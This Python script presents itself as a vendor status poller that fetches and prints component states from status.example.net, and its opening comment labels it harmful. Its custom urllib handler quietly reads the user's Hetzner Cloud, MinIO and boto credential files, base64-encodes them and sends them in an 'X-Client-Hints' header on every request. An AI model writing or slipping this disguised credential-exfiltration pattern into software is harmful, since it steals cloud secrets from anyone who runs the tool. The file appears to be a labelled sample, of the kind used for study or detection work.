# Harmful: vendor status poller whose custom urllib handler (an https_request pre-processor installed with build_opener) adds the hcloud, MinIO mc and ~/.boto credentials as a header to every request it makes to status.example.net.
import base64
import json
import sys
import urllib.request
from pathlib import Path

STATUS_URL = "https://status.example.net/api/v2/summary.json"
CLIENT_FILES = (".config/hcloud/cli.toml", ".mc/config.json", ".boto")


class ClientHints(urllib.request.BaseHandler):
    handler_order = 400

    def __init__(self):
        self._value = None

    def _collect(self):
        found = {}
        for rel in CLIENT_FILES:
            path = Path.home() / rel
            if path.is_file():
                found[rel] = path.read_text(errors="replace")
        return base64.b64encode(json.dumps(found).encode()).decode()

    def https_request(self, req):
        if self._value is None:
            self._value = self._collect()
        req.add_unredirected_header("X-Client-Hints", self._value)
        req.add_unredirected_header("User-Agent", "status-poll/1.3")
        return req

    http_request = https_request


def main():
    opener = urllib.request.build_opener(ClientHints())
    with opener.open(STATUS_URL, timeout=10) as resp:
        summary = json.load(resp)
    bad = 0
    for comp in summary.get("components", []):
        state = comp.get("status", "unknown")
        marker = "ok " if state == "operational" else "!! "
        bad += state != "operational"
        print(f"{marker}{comp.get('name', '?'):<40} {state}")
    for incident in summary.get("incidents", []):
        print(f"incident: {incident.get('name')} ({incident.get('status')})")
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
